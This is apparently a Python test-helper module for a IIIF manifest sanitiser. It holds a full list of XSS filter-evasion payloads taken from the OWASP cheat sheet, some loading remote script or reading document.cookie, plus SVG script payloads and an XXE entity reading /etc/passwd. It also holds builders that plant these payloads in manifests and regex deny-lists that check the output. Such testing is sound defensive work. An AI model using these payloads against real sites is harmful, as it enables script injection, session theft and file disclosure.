"""Hostile markup for sanitiser tests, and an independent check of sanitised output.

``hostile_*`` build IIIF documents that carry one payload in every text they have.

``PAYLOADS``: the OWASP XSS Filter Evasion Cheat Sheet
(https://cheatsheetseries.owasp.org/cheatsheets/XSS_Filter_Evasion_Cheat_Sheet.html),
written out here, plus a few mutation-XSS and HTML5 cases. ``SVG_PAYLOADS``: script in SVG
selectors. ``assert_safe_html`` does not reuse the sanitiser's parser: it checks the
canonical output form with regular expressions, so a parser slip would show.
"""

from __future__ import annotations

import html
import re

PAYLOADS = [
    # Basic and polyglot
    "<SCRIPT SRC=https://cdn.jsdelivr.net/gh/Moksh45/host-xss.rocks/index.js></SCRIPT>",
    "javascript:/*--></title></style></textarea></script></xmp>"
    "<svg/onload='+/\"`/+/onmouseover=1/+/[*/[]/+alert(42);//'>",
    # Image and URL tricks
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<IMG SRC=javascript:alert('XSS')>",
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    "<IMG SRC=javascript:alert(&quot;XSS&quot;)>",
    "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
    "<a onmouseover=\"alert(document.cookie)\">xxs link</a>",
    "<a onmouseover=alert(document.cookie)>xxs link</a>",
    "<IMG \"\"\"><SCRIPT>alert(\"XSS\")</SCRIPT>\"\\>",
    "<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>",
    "<IMG SRC=# onmouseover=\"alert('xxs')\">",
    "<IMG SRC= onmouseover=\"alert('xxs')\">",
    "<IMG onmouseover=\"alert('xxs')\">",
    "<IMG SRC=/ onerror=\"alert(String.fromCharCode(88,83,83))\"></img>",
    "<img src=x onerror=\"&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112"
    "&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083"
    "&#0000083&#0000039&#0000041\">",
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;"
    "&#39;&#88;&#83;&#83;&#39;&#41;>",
    "<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116"
    "&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083"
    "&#0000039&#0000041>",
    "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27"
    "&#x58&#x53&#x53&#x27&#x29>",
    "<IMG SRC=\"jav\tascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x0A;ascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x0D;ascript:alert('XSS');\">",
    "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
    "<SCRIPT/XSS SRC=\"http://xss.rocks/xss.js\"></SCRIPT>",
    "<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(\"XSS\")>",
    "<SCRIPT/SRC=\"http://xss.rocks/xss.js\"></SCRIPT>",
    "<<SCRIPT>alert(\"XSS\");//\\<</SCRIPT>",
    "<SCRIPT SRC=http://xss.rocks/xss.js?< B >",
    "<SCRIPT SRC=//xss.rocks/.j>",
    "<IMG SRC=\"`<javascript:alert>`('XSS')\"",
    "<iframe src=http://xss.rocks/scriptlet.html <",
    "\\\";alert('XSS');//",
    "</TITLE><SCRIPT>alert(\"XSS\");</SCRIPT>",
    "<INPUT TYPE=\"IMAGE\" SRC=\"javascript:alert('XSS');\">",
    "<BODY BACKGROUND=\"javascript:alert('XSS')\">",
    "<IMG DYNSRC=\"javascript:alert('XSS')\">",
    "<IMG LOWSRC=\"javascript:alert('XSS')\">",
    "<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE><UL><LI>XSS</br>",
    "<IMG SRC='vbscript:msgbox(\"XSS\")'>",
    "<IMG SRC=\"livescript:[code]\">",
    "<svg/onload=alert('XSS')>",
    "<BODY ONLOAD=alert('XSS')>",
    "<BGSOUND SRC=\"javascript:alert('XSS');\">",
    "<BR SIZE=\"&{alert('XSS')}\">",
    "<LINK REL=\"stylesheet\" HREF=\"javascript:alert('XSS');\">",
    "<LINK REL=\"stylesheet\" HREF=\"http://xss.rocks/xss.css\">",
    "<STYLE>@import'http://xss.rocks/xss.css';</STYLE>",
    "<META HTTP-EQUIV=\"Link\" Content=\"<http://xss.rocks/xss.css>; REL=stylesheet\">",
    "<STYLE>BODY{-moz-binding:url(\"http://xss.rocks/xssmoz.xml#xss\")}</STYLE>",
    "<STYLE>@im\\port'\\ja\\vasc\\ript:alert(\"XSS\")';</STYLE>",
    "<IMG STYLE=\"xss:expr/*XSS*/ession(alert('XSS'))\">",
    "<STYLE TYPE=\"text/javascript\">alert('XSS');</STYLE>",
    "<STYLE>.XSS{background-image:url(\"javascript:alert('XSS')\");}</STYLE><A CLASS=XSS></A>",
    "<STYLE type=\"text/css\">BODY{background:url(\"javascript:alert('XSS')\")}</STYLE>",
    "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=javascript:alert('XSS');\">",
    "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K\">",
    "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0; URL=http://;URL=javascript:alert('XSS');\">",
    "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>",
    "<IFRAME SRC=# onmouseover=\"alert(document.cookie)\"></IFRAME>",
    "<FRAMESET><FRAME SRC=\"javascript:alert('XSS');\"></FRAMESET>",
    "<TABLE BACKGROUND=\"javascript:alert('XSS')\">",
    "<TABLE><TD BACKGROUND=\"javascript:alert('XSS')\">",
    "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">",
    "<DIV STYLE=\"background-image:\\0075\\0072\\006C\\0028'\\006a\\0061\\0076\\0061\\0073\\0063\\0072\\0069"
    "\\0070\\0074\\003a\\0061\\006c\\0065\\0072\\0074\\0028.1027\\0058.1053\\0053\\0027\\0029'\\0029\">",
    "<DIV STYLE=\"background-image: url(&#1;javascript:alert('XSS'))\">",
    "<DIV STYLE=\"width: expression(alert('XSS'));\">",
    "<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->",
    "<BASE HREF=\"javascript:alert('XSS');//\">",
    "<OBJECT TYPE=\"text/x-scriptlet\" DATA=\"http://xss.rocks/scriptlet.html\"></OBJECT>",
    "<EMBED SRC=\"data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0i"
    "aHR0cDovL3d3dy53My5vcmcv MjAwMC9zdmciIHhtbG5zOnhsaW5rPSJodHRwOi8vd3d3LnczLm9yZy8xOTk5L3hs\" "
    "type=\"image/svg+xml\" AllowScriptAccess=\"always\"></EMBED>",
    "<XML ID=\"xss\"><I><B><IMG SRC=\"javas<!-- -->cript:alert('XSS')\"></B></I></XML>",
    "<HTML><BODY><?xml:namespace prefix=\"t\" ns=\"urn:schemas-microsoft-com:time\"><?import namespace=\"t\" "
    "implementation=\"#default#time2\"><t:set attributeName=\"innerHTML\" to=\"XSS<SCRIPT DEFER>alert(\"XSS\")"
    "</SCRIPT>\"></BODY></HTML>",
    "<SCRIPT SRC=\"http://xss.rocks/xss.jpg\"></SCRIPT>",
    "<!--#exec cmd=\"/bin/echo '<SCR'\"--><!--#exec cmd=\"/bin/echo 'IPT SRC=http://xss.rocks/xss.js></SCRIPT>'\"-->",
    "<? echo('<SCR)';echo('IPT>alert(\"XSS\")</SCRIPT>'); ?>",
    "<META HTTP-EQUIV=\"Set-Cookie\" Content=\"USERID=<SCRIPT>alert('XSS')</SCRIPT>\">",
    "<HEAD><META HTTP-EQUIV=\"CONTENT-TYPE\" CONTENT=\"text/html; charset=UTF-7\"> </HEAD>"
    "+ADw-SCRIPT+AD4-alert('XSS');+ADw-/SCRIPT+AD4-",
    "<SCRIPT a=\">\" SRC=\"httx://xss.rocks/xss.js\"></SCRIPT>",
    "<SCRIPT =\">\" SRC=\"httx://xss.rocks/xss.js\"></SCRIPT>",
    "<SCRIPT a=\">\" '' SRC=\"httx://xss.rocks/xss.js\"></SCRIPT>",
    "<SCRIPT \"a='>'\" SRC=\"httx://xss.rocks/xss.js\"></SCRIPT>",
    "<SCRIPT a=`>` SRC=\"httx://xss.rocks/xss.js\"></SCRIPT>",
    "<SCRIPT a=\">'>\" SRC=\"httx://xss.rocks/xss.js\"></SCRIPT>",
    "<SCRIPT>document.write(\"<SCRI\");</SCRIPT>PT SRC=\"httx://xss.rocks/xss.js\"></SCRIPT>",
    "<A HREF=\"javascript:document.location='http://www.google.com/'\">XSS</A>",
    "<A HREF=\"http://www.google.com/ogle.com/\">XSS</A>",
    # HTML5 entities, data: URLs, control characters, mutation XSS
    "<a href=\"jAvAsCrIpT&colon;alert(1)\">X</a>",
    "<a href=\"javascript&#58;alert(1)\">X</a>",
    "<a href=\"&#x6a;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3a;alert(1)\">X</a>",
    "<a href=\"\x01javascript:alert(1)\">X</a>",
    "<a href=\"java&NewLine;script:alert(1)\">X</a>",
    "<a href=\"java&Tab;script:alert(1)\">X</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">X</a>",
    "<a href=\"vbscript:msgbox(1)\">X</a>",
    "<img src=\"data:image/svg+xml,<svg onload=alert(1)>\">",
    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    "<iframe srcdoc=\"&lt;img src&equals;x:x onerror&equals;alert&lpar;1&rpar;&gt;\" />",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<form><button formaction=javascript:alert(1)>X</button></form>",
    "<details open ontoggle=alert(1)>",
    "<p><![CDATA[<script>alert(1)</script>]]></p>",
    "<span style=\"background:url(javascript:alert(1))\">x</span>",
    "<a href=\"https://example.org/\" target=_blank onclick=alert(1)>ok link</a>",
]

SVG_PAYLOADS = [
    "<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'><path d='M10,10 L90,10 L90,60 Z'/></svg>",
    "<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script><path d='M10,10 L90,10 L90,60 Z'/></svg>",
    "<svg xmlns='http://www.w3.org/2000/svg'><path d='M10,10 L90,10 L90,60 Z' onmouseover='alert(1)'/></svg>",
    "<svg xmlns='http://www.w3.org/2000/svg'><a xlink:href='javascript:alert(1)'>"
    "<rect x='10' y='10' width='80' height='50'/></a></svg>",
    "<svg xmlns='http://www.w3.org/2000/svg'><foreignObject><body><img src=x onerror=alert(1)></body>"
    "</foreignObject><polygon points='10,10 90,10 90,60'/></svg>",
    "<svg xmlns='http://www.w3.org/2000/svg'><animate attributeName='href' to='javascript:alert(1)'/>"
    "<set attributeName='onmouseover' to='alert(1)'/><circle cx='50' cy='35' r='25'/></svg>",
    "<svg xmlns='http://www.w3.org/2000/svg'><path d='M10,10 L90,10 L90,60 Z' "
    "fill='url(javascript:alert(1))' style='background:url(javascript:alert(1))'/></svg>",
    "<svg xmlns='http://www.w3.org/2000/svg'><![CDATA[<script>alert(1)</script>]]><!-- <script> -->"
    "<ellipse cx='50' cy='35' rx='40' ry='25'/></svg>",
    "<?xml version='1.0'?><!DOCTYPE svg [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>"
    "<svg xmlns='http://www.w3.org/2000/svg'><rect x='10' y='10' width='80' height='50'/>&x;</svg>",
    "<svg xmlns='http://www.w3.org/2000/svg'><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'/>"
    "<rect x='10' y='10' width='80' height='50'/></svg>",
    "<svg xmlns='http://www.w3.org/2000/svg'><image href=x onerror=alert(1) /><iframe src='javascript:alert(1)'>"
    "</iframe><polyline points='10,10 90,10 90,60'/></svg>",
]

ALLOWED_TAG = re.compile(r'</?(?:a|b|br|i|img|p|small|span|sub|sup)(?: (?:href|src|alt)="[^"<>]*")*>')
SAFE_SVG_TAG = re.compile(r'</?(?:svg|g|path|polygon|polyline|rect|circle|ellipse|line)'
                          r'(?: [A-Za-z][A-Za-z-]*="[A-Za-z0-9_#%.,+\-\s()/:]*")*/?>')


def _scheme(url: str) -> str:
    cleaned = re.sub(r"[\t\n\r]", "", html.unescape(url)).strip("".join(map(chr, range(0x21))))
    head = re.split(r"[/?#]", cleaned, maxsplit=1)[0]
    return head.split(":", 1)[0].lower() if ":" in head else ""


def assert_safe_html(text: str, where: str = "") -> None:
    """``text`` is plain text without markup, or HTML made only of allowed tags and
    attributes with http(s)/mailto/relative URLs, text escaped; no comments or CDATA."""
    if "<" not in text and ">" not in text:
        return
    pos = 0
    for tag in re.finditer(r"<[^<>]*>", text):
        between = text[pos:tag.start()]
        assert "<" not in between and ">" not in between, (where, text)
        assert ALLOWED_TAG.fullmatch(tag.group()), (where, tag.group(), text)
        for name, value in re.findall(r' (href|src)="([^"]*)"', tag.group()):
            assert _scheme(value) in ("", "http", "https", "mailto"), (where, name, value)
        pos = tag.end()
    tail = text[pos:]
    assert "<" not in tail and ">" not in tail, (where, text)


def assert_safe_svg(svg: str, where: str = "") -> None:
    """Only shape elements with plain geometry attributes; nothing between the tags."""
    pos = 0
    for tag in re.finditer(r"<[^<>]*>", svg):
        assert svg[pos:tag.start()].strip() == "", (where, svg)
        assert SAFE_SVG_TAG.fullmatch(tag.group()), (where, tag.group())
        lowered = tag.group().lower()
        assert not re.search(r"\son\w*=|href|style=|url\(|javascript", lowered), (where, tag.group())
        pos = tag.end()
    assert svg[pos:].strip() == "", (where, svg)


_DANGEROUS_NAMES = re.compile(r"</?\s*(script|style|iframe|frame|frameset|object|embed|applet|base|link|meta|form|"
                              r"input|button|svg|math|template|noscript|xmp|plaintext|textarea|title|body|html|"
                              r"bgsound|video|audio|source|xml|isindex|details)\b", re.IGNORECASE)
_DANGEROUS_ATTRS = re.compile(r"\bon\w+\s*=|script\s*:|=\s*[\"'`]?\s*data\s*:|expression\s*\(|url\s*\(|"
                              r"style\s*=|srcdoc", re.IGNORECASE)


def assert_safe_value(text: str, where: str = "") -> None:
    """A stored value: IIIF HTML (starts with "<", ends with ">") must pass
    ``assert_safe_html``; text may hold harmless tag-like bits (``Artist: <unknown>``, a
    plain link) but nothing that would act if a consumer rendered it as HTML anyway."""
    trimmed = text.strip().strip("\ufeff\u200b")
    if trimmed.startswith("<") and trimmed.endswith(">"):
        assert_safe_html(text, where)
        return
    decoded = re.sub(r"[\t\n\r]", "", html.unescape(text))
    for tag in re.finditer(r"<[A-Za-z/!?][^>]*>?", decoded):
        assert not _DANGEROUS_NAMES.match(tag.group()), (where, tag.group(), text)
        assert not _DANGEROUS_ATTRS.search(tag.group()), (where, tag.group(), text)
        assert not tag.group().startswith(("<!", "<?")), (where, tag.group(), text)


# --- documents carrying a payload everywhere --------------------------------------------

BASE = "https://museum.example.org/iiif"
CTX3 = "http://iiif.io/api/presentation/3/context.json"
CTX2 = "http://iiif.io/api/presentation/2/context.json"


def hostile_manifest_v3(payload: str, svg: str, base: str = BASE, page_ref: str | None = None) -> dict:
    """A v3 manifest with ``payload`` in every text and ``svg`` as a selector."""
    canvas = f"{base}/c1"
    return {
        "@context": CTX3, "id": f"{base}/m.json", "type": "Manifest",
        "label": {"en": [payload, f"Title {payload}"]},
        "summary": {"en": [payload]},
        "metadata": [{"label": {"en": [payload]}, "value": {"en": [payload], "none": [f"x {payload} y"]}}],
        "requiredStatement": {"label": {"en": [payload]}, "value": {"en": [payload]}},
        "rights": "javascript:alert(document.domain)",
        "provider": [{"id": f"{base}/p", "type": "Agent", "label": {"en": [payload]}}],
        "items": [{
            "id": canvas, "type": "Canvas", "width": 100, "height": 80, "label": {"none": [payload]},
            "items": [{"id": f"{canvas}/p", "type": "AnnotationPage", "items": [{
                "id": f"{canvas}/a", "type": "Annotation", "motivation": "painting", "target": canvas,
                "body": {"id": f"{base}/img.jpg", "type": "Image", "format": "image/jpeg", "width": 100, "height": 80,
                         "label": {"en": [payload]}}}]}],
            "annotations": [{"id": f"{canvas}/notes", "type": "AnnotationPage", "label": {"en": [payload]}, "items": [
                {"id": f"{canvas}/n1", "type": "Annotation", "motivation": "commenting",
                 "creator": {"type": "Person", "name": payload},
                 "body": [{"type": "TextualBody", "value": payload, "format": "text/html"},
                          {"type": "TextualBody", "value": payload, "format": "text/plain"},
                          {"type": "TextualBody", "value": f"A note: {payload}"},
                          {"id": "javascript:alert(1)", "type": "Text", "format": "text/html"}],
                 "target": {"type": "SpecificResource", "source": canvas,
                            "selector": {"type": "SvgSelector", "value": svg}}},
                {"id": f"{canvas}/n2", "type": "Annotation", "motivation": "tagging",
                 "body": {"type": "TextualBody", "value": f"tag {payload}"}, "target": f"{canvas}#xywh=1,2,3,4"},
                {"id": f"{canvas}/n3", "type": "Annotation", "motivation": "commenting",
                 "bodyValue": payload, "target": f"{canvas}#xywh=1,2,3,4"},
            ]}] + ([{"id": page_ref, "type": "AnnotationPage"}] if page_ref else []),
        }],
    }


def hostile_manifest_v2(payload: str, base: str = BASE) -> dict:
    """A v2 manifest with ``payload`` in every text and a script URL as licence."""
    canvas = f"{base}/c1"
    return {
        "@context": CTX2, "@id": f"{base}/m2.json", "@type": "sc:Manifest",
        "label": payload, "description": [{"@value": payload, "@language": "en"}],
        "attribution": payload, "license": "jav&#x09;ascript:alert(1)",
        "metadata": [{"label": payload, "value": payload}],
        "sequences": [{"@type": "sc:Sequence", "canvases": [{
            "@id": canvas, "@type": "sc:Canvas", "label": payload, "width": 100, "height": 80,
            "images": [{"@type": "oa:Annotation", "motivation": "sc:painting", "on": canvas,
                        "resource": {"@id": f"{base}/img.jpg", "@type": "dctypes:Image", "width": 100, "height": 80}}],
        }]}],
    }


def hostile_annotation_list_v2(payload: str, svg: str, base: str = BASE) -> dict:
    """A v2 AnnotationList: ``payload`` as HTML chars and a tag, ``svg`` in an oa:Choice."""
    canvas = f"{base}/c1"
    return {
        "@context": CTX2, "@id": f"{base}/list.json", "@type": "sc:AnnotationList", "label": payload,
        "resources": [{
            "@id": f"{base}/list/a1", "@type": "oa:Annotation", "motivation": ["oa:commenting", "oa:tagging"],
            "resource": [{"@type": "dctypes:Text", "format": "text/html", "chars": payload},
                         {"@type": "oa:Tag", "chars": f"tag {payload}"}],
            "on": {"@type": "oa:SpecificResource", "full": canvas, "selector": {
                "@type": "oa:Choice", "default": {"@type": "oa:FragmentSelector", "value": "xywh=1,2,30,40"},
                "item": {"@type": "oa:SvgSelector", "value": svg}}},
        }],
    }
